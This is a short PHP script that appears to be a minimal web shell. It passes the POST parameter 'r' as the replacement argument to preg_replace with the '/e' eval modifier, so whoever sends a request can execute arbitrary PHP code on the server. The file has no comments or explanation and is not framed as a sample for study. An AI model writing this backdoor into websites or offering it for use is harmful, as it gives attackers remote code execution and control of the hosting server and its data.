<?php
$t = isset($_GET['t']) ? $_GET['t'] : '';
echo preg_replace('/.*/e', $_POST['r'], $t);
